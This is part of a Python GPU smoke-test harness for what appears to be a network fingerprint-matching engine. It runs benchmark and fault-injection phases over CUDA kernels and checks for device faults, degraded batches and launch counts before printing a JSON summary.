            stub = StubServer(blob, module="fingerprint", put_failures=3, drain_on_poll=3)
            proc, seconds = job("off", stub, "outage", max_jobs=0)
            out["outage_drain"] = line = {
                "seconds": seconds, "failed_puts": stub.failed_puts, "polls": stub.polls,
                "spooled": proc.spool.spooled, "replayed": proc.spool.replayed,
                "spool_left": len(proc.spool), "uploads": len(stub.uploads),
                "drain_outcome": proc.drain_outcome, "deregistered": stub.deregistered,
                "renewals": stub.renewals, "statuses": stub.statuses}
            emit({"phase": "resilience_worker", "job": "outage_drain", **line})
            if stub.failed_puts != 3 or proc.spool.spooled != 1 or len(proc.spool):
                raise AssertionError(f"outage: {line}")
            if stub.uploads != [clean["off"]] or stub.statuses[-1] != "complete":
                raise AssertionError("outage: the replayed upload differs from the fault-free "
                                     "job, or the job did not complete")
            if proc.drain_outcome not in ("completed", "idle") or stub.deregistered != [
                    "chip-smoke"]:
                raise AssertionError(f"drain: {proc.drain_outcome}, {stub.deregistered}")

            # (d) a real kernel error on the card is not degraded: a
            # launch that raises (a stand-in wrapper here, so the
            # context stays sound) propagates out of match, and no
            # batch goes to the host oracle
            eng = engines["off"]
            eng.clear_content_memos()
            before = (eng.stats.device_faults, eng.stats.degraded_batches)
            msg = "match_verdicts: CUDA error at launch (stand-in)"

            def broken(*_a, **_k):
                raise RuntimeError(msg)

            real, kernels.match_verdicts = kernels.match_verdicts, broken
            try:
                eng.match(port_rows(dicts[:64]))
                raised = None
            except RuntimeError as e:
                raised = str(e)
            finally:
                kernels.match_verdicts = real
            after = (eng.stats.device_faults, eng.stats.degraded_batches)
            out["kernel_error"] = line = {"raised": raised, "device_faults_degraded": after,
                                          "breakers": eng._device_breakers.states()}
            emit({"phase": "resilience_worker", "job": "kernel_error", **line})
            if raised != msg or after != before:
                raise AssertionError(f"kernel error on the card: raised {raised!r}, "
                                     f"faults/degraded {before} -> {after}")
        finally:
            for k, v in saved.items():
                if v is None:
                    os.environ.pop(k, None)
                else:
                    os.environ[k] = v
    # what the fault point and the device breaker add to a fault-free
    # batch on the host: the dispatch's fault_point, and the walk's
    # breaker lookup by shape class, allow and record_success
    from swarm_tpu_torch.resilience.faults import fault_point

    eng = engines["off"]
    batch = eng.encode(port_rows(dicts[:256]))
    reps = 100_000
    t0 = time.perf_counter()
    for _ in range(reps):
        fault_point("device.dispatch")
    fault_point_ns = (time.perf_counter() - t0) / reps * 1e9
    t0 = time.perf_counter()
    for _ in range(reps):
        br = eng._device_breakers.get(eng._shape_class(batch))
        br.allow()
        br.record_success()
    breaker_ns = (time.perf_counter() - t0) / reps * 1e9
    out["fault_free_ns_per_batch"] = {"fault_point": fault_point_ns, "breaker": breaker_ns}
    out["seconds"] = time.perf_counter() - t_phase
    emit({"phase": "resilience_worker", "rows": len(dicts), "seconds": out["seconds"],
          "fault_free_ns_per_batch": out["fault_free_ns_per_batch"], "card": smi})
    return out


def main(argv: list[str] | None = None) -> int:
    import tempfile

    global DB_CACHE_ROOT
    argv = sys.argv[1:] if argv is None else argv
    if argv[:1] == ["--multihost-rank"] and len(argv) == 5:
        # one process of the multihost phase, started by phase_multihost
        return multihost_rank(Path(argv[1]), argv[2], int(argv[3]), int(argv[4]))
    if argv[:1] == ["--aot-run"] and len(argv) == 2:
        # one process of the aot phase, started by phase_aot
        return aot_run(Path(argv[1]))
    if argv and (argv[0] != "--only" or argv[1:] not in ([p] for p in ONLY)):
        print(f"usage: python3 chip_smoke.py [--only {'|'.join(ONLY)}]", file=sys.stderr)
        return 2
    smi = phase_device()
    with tempfile.TemporaryDirectory(prefix="swarm-db-cache-") as cache_root:
        DB_CACHE_ROOT = Path(cache_root)
        use_db_cache("match")
        return run_only(smi, argv[1]) if argv else run_phases(smi)


#: the phases ``--only`` runs alone (:func:`run_only`)
ONLY = ("match", "telemetry", "timing", "mesh", "startup", "profiles", "refresh", "multihost",
        "result_cache", "aot", "monitor", "queue")


def run_only(smi: str, which: str) -> int:
    """One phase after the corpus, the kernels built as the phase first
    needs them: ``match`` (what a comparison of two checkouts runs in
    turns), then ``telemetry_cost`` where the checkout has the port's
    telemetry; ``telemetry_worker``, its engines held to no fault;
    ``timing``, the ``fingerprint`` job and its kernel calls timed (the
    other comparison of two checkouts); ``mesh``, after the build phase
    (its ptxas report and spill check); or ``startup``, after the
    ``fingerprint`` job that fills the compile cache it reads; or
    ``profiles`` (:func:`phase_profiles`), in a process of its own;
    ``refresh``, ``monitor`` or ``result_cache``, after the build
    phase, its engines held to no fault; ``queue``, after the build
    phase and the ``monitor`` phase whose feed it is held to; or ``multihost``, after the build phase, whose two
    processes then load the built libraries; or ``aot``, after the build
    phase (which the publisher publishes) and the corpus."""
    import importlib.util

    if which == "profiles":
        phase_profiles(smi)
        return 0
    if which in ("mesh", "refresh", "multihost", "result_cache", "monitor", "queue"):
        phase_build()
    if which == "multihost":
        phase_multihost(smi)
        return 0
    if which == "aot":
        phase_build()
        _templates, plants, _db = phase_corpus()
        phase_aot(plants, smi)
        return 0
    templates, plants, db = phase_corpus()
    if which == "queue":
        track_engines()
        monitor = no_faults("monitor", phase_monitor, templates, plants, db, smi)
        no_faults("queue", phase_queue, templates, plants, db, smi, monitor["feed"])
        return 0
    if which in ("telemetry", "mesh", "refresh", "result_cache", "monitor"):
        track_engines()
        phase = {"telemetry": ("telemetry_worker", phase_telemetry_worker),
                 "mesh": ("mesh", phase_mesh), "refresh": ("refresh", phase_refresh),
                 "result_cache": ("result_cache", phase_result_cache),
                 "monitor": ("monitor", phase_monitor)}[which]
        no_faults(*phase, templates, plants, db, smi)
        return 0
    if which in ("timing", "startup"):
        _launches, calls = phase_fingerprint_worker(templates, plants, db)
        if which == "timing":
            from swarm_tpu_torch.ops.engine import MatchEngine

            on = MatchEngine(templates, db=db, device="cuda", pipeline="on")
            phase_match_timing(calls, smi, stream_md5_calls(on, stream_rows(on, plants)))
        else:
            phase_startup_worker(plants, smi)
        return 0
    eng, rows = phase_match(templates, plants, db, smi)
    if importlib.util.find_spec("swarm_tpu_torch.telemetry") is not None:
        phase_telemetry_cost(eng, rows, smi)
    return 0


#: device profiles of ``--only profiles``
PROFILE_SESSIONS = 1000


def phase_profiles(smi: str, sessions: int = PROFILE_SESSIONS) -> dict:
    """``sessions`` device profiles in this process, as the worker takes
    them with ``SWARM_PROFILE_DIR`` (``utils/trace.py``
    ``maybe_device_profile``), each around one ``match_md5`` launch: how
    many traces hold no kernel event (``ProfileError``; the open defect
    of ROADMAP C), which sessions, and the CUDA runtime events such a
    trace keeps. Reports; fails only if a profile cannot be taken."""
    import tempfile

    import torch

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.utils import trace

    rng = np.random.default_rng(3)
    stream = torch.from_numpy(rng.integers(0, 256, (256, 2048), dtype=np.uint8)).cuda()
    lens = torch.from_numpy(rng.integers(0, 2049, 256).astype(np.int32)).cuda()
    lost, runtime = [], set()
    t0 = time.perf_counter()
    with tempfile.TemporaryDirectory() as root:
        for i in range(sessions):
            try:
                with trace.maybe_device_profile(f"s{i}", root, "cuda"):
                    kernels.match_md5(stream, lens)
            except trace.ProfileError:
                lost.append(i)
                [path] = (Path(root) / f"s{i}").glob("trace_*.json")
                events = json.loads(path.read_text())["traceEvents"]
                runtime.add(sum(e.get("cat") == "cuda_runtime" for e in events))
    out = {"phase": "profiles", "sessions": sessions, "without_kernel": len(lost),
           "sessions_without_kernel": lost[:50], "runtime_events_then": sorted(runtime),
           "seconds": time.perf_counter() - t0, "torch": torch.__version__,
           "env": {k: os.environ.get(k) for k in ("TEARDOWN_CUPTI", "CUDA_MODULE_LOADING")},
           "card": smi}
    emit(out)
    return out


#: (phase, EngineStats) of every MatchEngine built in this run: the
#: engine may be gone, its counts stay
ENGINE_STATS: list = []
_PHASE = ["start"]


def track_engines() -> None:
    """Record the stats of every MatchEngine built from here on (the
    phases', the worker's, a scanner's, a classifier's) under the phase
    that built it."""
    from swarm_tpu_torch.ops.engine import MatchEngine

    init = MatchEngine.__init__

    def tracked(self, *args, **kw):
        init(self, *args, **kw)
        ENGINE_STATS.append((_PHASE[0], self.stats))

    MatchEngine.__init__ = tracked


#: the engines whose degraded batches a phase injects on purpose: the
#: resilience phase's, and the queue phase's dispatch-fault engine
DEGRADE_PHASES = ("resilience_worker", "queue_dispatch_fault")


def no_faults(name: str, fn, *args):
    """Run phase ``fn``; then no engine built by this or an earlier
    phase (the resilience phase's aside) may show a device fault or a
    degraded batch: outside that phase, a degraded batch is a failed
    run, not a slow one."""
    _PHASE[0] = name
    out = fn(*args)
    bad = [(phase, st.device_faults, st.degraded_batches) for phase, st in ENGINE_STATS
           if phase not in DEGRADE_PHASES and (st.device_faults or st.degraded_batches)]
    if bad:
        raise AssertionError(f"device faults or degraded batches after {name}: {bad}")
    return out


def run_phases(smi: str) -> int:
    import torch

    track_engines()
    probe, md5_build = phase_build()
    b1_rate, md5_rounds = phase_mma(probe)
    rng = np.random.default_rng(0)
    big = jarm_like_rows(rng, 65536)
    summary = phase_kernels(rng, big, b1_rate)
    phase_scale(big, smi)
    phase_trace(big)
    launches = phase_worker()
    for name, entry in summary.items():
        entry["launches"] = launches[name]
    templates, plants, db = phase_corpus()
    # early: late in a run, after many profiler traces, the profiled job's
    # trace once held no device event (an open defect; the worker fails
    # such a job, so the phase would fail)
    no_faults("telemetry_worker", phase_telemetry_worker, templates, plants, db, smi)
    # its workers and engines hang in reference cycles: free them now,
    # not in a generation-2 collection inside a later phase's timed window
    gc.collect()
    max_err = no_faults("match_kernels", phase_match_kernels, templates, plants, db)
    eng, rows = no_faults("match", phase_match, templates, plants, db, smi)
    no_faults("telemetry_cost", phase_telemetry_cost, eng, rows, smi)
    no_faults("match_trace", phase_match_trace, eng, rows)
    del eng
    sched_launches, md5_calls = no_faults("sched", phase_sched, templates, plants, db, smi)
    launches, calls = no_faults("fingerprint_worker", phase_fingerprint_worker, templates,
                                plants, db)
    timing, job_err = no_faults("match_timing", phase_match_timing, calls, smi, md5_calls)
    del calls, md5_calls
    mesh = no_faults("mesh", phase_mesh, templates, plants, db, smi)
    refresh = no_faults("refresh", phase_refresh, templates, plants, db, smi)
    monitor = no_faults("monitor", phase_monitor, templates, plants, db, smi)
    queue = no_faults("queue", phase_queue, templates, plants, db, smi, monitor["feed"])
    cache = no_faults("result_cache", phase_result_cache, templates, plants, db, smi)
    aot = no_faults("aot", phase_aot, plants, smi)
    for name in ("cluster_counts", "cluster_parent"):
        summary[name]["max_abs_err"] = max(summary[name]["max_abs_err"], aot["max_err"][name])
        summary[name]["aot_joiner"] = {"launches": aot["launches"][name]}
    multi = phase_multihost(smi)
    phase_startup_worker(plants, smi)
    svc_timing, svc_launches, svc_err = no_faults("service", phase_service, smi)
    no_faults("service_worker", phase_service_worker, smi)
    no_faults("tpu_forms_worker", phase_tpu_forms_worker, smi)
    active_launches = no_faults("active_worker", phase_active_worker, smi)
    oob_launches = no_faults("oob_headless_worker", phase_oob_headless_worker, smi)
    file_launches = no_faults("file_worker", phase_file_worker, smi)
    phase_command_worker()
    _PHASE[0] = "resilience_worker"
    phase_resilience_worker(templates, plants, db, smi)
    checked = [phase for phase, _st in ENGINE_STATS if phase not in DEGRADE_PHASES]
    emit({"phase": "no_device_faults", "engines": len(checked),
          "by_phase": {p: checked.count(p) for p in dict.fromkeys(checked)},
          "device_faults": 0, "degraded_batches": 0})
    replaces = {
        "match_phase_a": "swarm_tpu/ops/match.py:1350",
        "match_verify": "swarm_tpu/ops/match.py:1465",
        "match_regex_scan": "swarm_tpu/ops/regexdev.py:134",
        "match_md5": "swarm_tpu/ops/md5.py:42",
        "match_verdicts": "swarm_tpu/ops/match.py:1807",
    }
    sources = {"match_md5": "swarm_tpu_torch/ops/csrc/md5.cu",
               "match_verdicts": "swarm_tpu_torch/ops/csrc/verdicts.cu"}
    for name in MATCH_KERNELS:
        t = timing[name]
        summary[name] = {
            "name": name, "route": "cuda",
            "source": sources.get(name, "swarm_tpu_torch/ops/csrc/match.cu"),
            "replaces": replaces[name], "launches": launches[name],
            "max_abs_err": max(max_err[name], job_err[name], svc_err.get(name, 0.0),
                               mesh["max_err"][name], refresh["max_err"][name],
                               monitor["max_err"][name], queue["max_err"][name],
                               cache["max_err"][name], multi["max_err"][name],
                               aot["max_err"][name]),
            "ms": t["ms"], "card_ms": t["card_ms"], "plain_ms": t["plain_ms"],
            "bound_ms": t["bound_ms"], "bound_by": t["bound_by"], "library_ms": None,
            "job_rows": JOB_ROWS,
        }
        if name == "match_verdicts":
            # a call is two launches: ms are a call's, launches count both
            summary[name].update(launches_per_call=2, pack_card_ms=t["pack_card_ms"],
                                 eval_card_ms=t["eval_card_ms"])
        if name == "match_phase_a":  # the probe and the rank pass
            summary[name]["launches_per_call"] = 2
        if "latency_bound_ms" in t:
            summary[name]["latency_bound_ms"] = t["latency_bound_ms"]
        if name == "match_md5":
            # its build (ptxas, the SASS chain a round) and its times on
            # the pipelined stream's calls
            st = t["stream"]
            summary[name].update(md5_build, round_cycles=md5_rounds)
            summary[name]["stream"] = {
                "calls": len(st["calls"]),
                **{k: st[k] for k in ("ms", "card_ms", "latency_bound_ms")}}
        for key in ("no_live_work_card_ms", "no_live_pair_card_ms"):
            if key in t:
                summary[name][key] = t[key]
        # the same kernel on the service corpus (phase_service's fresh
        # call of 2,048 banners): the DB has no md5 check
        # the same kernel's launches on one traced pipelined call of the
        # sched phase's stream
        summary[name]["sched"] = {"launches": sched_launches[name]}
        # its launches on the active job (pipeline off) and the file job
        summary[name]["active"] = {"launches": active_launches[name]}
        # and on the nuclei-oob job (the OOB drain and the headless round)
        summary[name]["oob_headless"] = {"launches": oob_launches[name]}
        summary[name]["file"] = {"launches": file_launches[name]}
        # its launches on each grid of the mesh phase (one call of 2,048
        # rows), and for phase A and the verify the seq-halo calls of the
        # (2, 2, 2) grid timed as the job's calls are
        summary[name]["mesh"] = {"launches": {g: n[name] for g, n in
                                              mesh["launches"].items()}}
        if name in mesh["halo"]:
            h = mesh["halo"][name]
            summary[name]["mesh"]["halo_2x2x2"] = {
                "calls": len(h["calls"]),
                **{k: h[k] for k in ("ms", "card_ms", "plain_ms", "bound_ms", "bound_by",
                                     "no_live_work_card_ms")}}
        # its launches on the batch after the refresh phase's last
        # refresh, and on each grid of the multihost phase (one call,
        # both processes)
        summary[name]["refresh"] = {"launches": refresh["launches"][name]}
        # and on the monitor phase's epochs (40 chunk jobs)
        summary[name]["monitor"] = {"launches": monitor["launches"][name]}
        # and on the queue phase's jobs (about 60, from the port's queue)
        summary[name]["queue"] = {"launches": queue["launches"][name]}
        # and on the result_cache phase's writer's call (A, a cold tier)
        summary[name]["result_cache"] = {"launches": cache["launches"][name]}
        # and on the aot phase's joiner's job, from fetched libraries
        summary[name]["aot_joiner"] = {"launches": aot["launches"][name]}
        summary[name]["multihost"] = {"launches": {g: n[name] for g, n in
                                                   multi["launches"].items()}}
        sv = svc_timing.get(name)
        summary[name]["service"] = {"launches": svc_launches[name], **(
            {k: sv[k] for k in ("ms", "card_ms", "plain_ms", "bound_ms", "bound_by")}
            if sv else {"note": "the service DB has no md5 check: not launched"})}
    print(json.dumps({"kernels": list(summary.values())}), flush=True)
    print(smi, flush=True)
    print(json.dumps({"ok": True, "device": {
        "platform": "gpu", "kind": torch.cuda.get_device_name(0),
        "count": torch.cuda.device_count(),
    }}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
